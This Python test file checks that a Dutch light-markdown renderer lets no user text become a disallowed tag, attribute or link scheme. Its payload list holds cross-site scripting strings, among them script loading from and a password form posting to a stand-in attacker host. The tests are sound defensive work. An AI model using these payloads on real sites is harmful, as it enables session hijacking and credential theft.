"""Light markdown: what a person types never becomes a tag that we did not choose."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from leerrecht.opmaaktekst import naar_html, naar_tekst

TOEGESTAAN = {"p", "br", "strong", "em", "ul", "ol", "li", "a", "h3", "h4", "blockquote"}
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//kwaad.test/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    '<a href="https://x.test" onclick="alert(1)">klik</a>',
    "[klik](javascript:alert(1))",
    "[klik](JaVaScRiPt:alert(1))",
    "[klik](java\tscript:alert(1))",
    "[klik](&#106;avascript:alert(1))",
    "[klik](data:text/html;base64,PHNjcmlwdD4=)",
    "[klik](vbscript:msgbox)",
    "[klik](//kwaad.test)",
    "![plaatje](https://kwaad.test/spion.png)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>body{display:none}</style>",
    "**vet <b onmouseover=alert(1)>** tekst",
    "`<script>alert(1)</script>`",
    '[a](<https://x.test" onmouseover="alert(1)>)',
    '[a](https://x.test "title\' onmouseover=alert(1)")',
    "<!-- --><script>alert(1)</script>",
    "> * <form action=//kwaad.test><input name=wachtwoord>",
]


class Lezer(HTMLParser):
    """Collects what a browser would see as tags, attributes and addresses."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributen: set[tuple[str, str]] = set()
        self.adressen: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag, attrs) -> None:
        self.tags.add(tag)
        self.attributen |= {(tag, naam) for naam, _ in attrs}
        self.adressen += [waarde or "" for naam, waarde in attrs if naam == "href"]


def keur(html: str) -> None:
    lezer = Lezer(html)
    assert lezer.tags <= TOEGESTAAN, html
    assert lezer.attributen <= {("a", "href"), ("a", "rel"), ("ol", "start"), ("li", "value")}, html
    for adres in lezer.adressen:
        schema = re.match(r"\s*([a-z][a-z0-9+.-]*):", adres, re.I)
        assert schema is None or schema.group(1).lower() in {"http", "https", "mailto", "tel"}, html


@pytest.mark.parametrize("tekst", PAYLOADS)
def test_kwaadaardige_tekst_wordt_nooit_een_vreemde_tag(tekst):
    keur(naar_html(tekst))
    keur(naar_html(f"* punt\n\n> {tekst}\n\n**{tekst}** [woord]({tekst})"))


@given(st.text(alphabet="<>&\"'/=()[]!*_`#ascriptonejhv: \n\t;&"))
def test_geen_enkele_tekst_wordt_een_vreemde_tag(tekst):
    keur(naar_html(tekst))


def test_gewone_opmaak_blijft_over():
    html = naar_html("Een **vette** en *schuine* zin.\n\n* punt\n* punt\n\n1. een")
    assert "<strong>vette</strong>" in html
    assert "<em>schuine</em>" in html
    assert html.count("<li>") == 3
    assert "<ol>" in html


def test_getypte_html_blijft_tekst_ook_als_de_tag_zelf_mag():
    assert naar_html("<strong>a</strong> <br>") == "<p>&lt;strong&gt;a&lt;/strong&gt; &lt;br&gt;</p>\n"


def test_een_link_naar_buiten_vertelt_niet_waar_hij_staat():
    assert naar_html("[site](https://onderwijs.test)") == (
        '<p><a href="https://onderwijs.test" rel="noopener nofollow">site</a></p>\n'
    )


def test_lege_tekst_geeft_niets():
    assert naar_html("") == ""
    assert naar_tekst("") == ""


def test_zonder_opmaak_blijven_gewone_woorden_en_tekens_over():
    assert naar_tekst("**Jongeren & ouders**\n\n* 5 < 6\n* [site](https://x.test)") == "Jongeren & ouders 5 < 6 site"
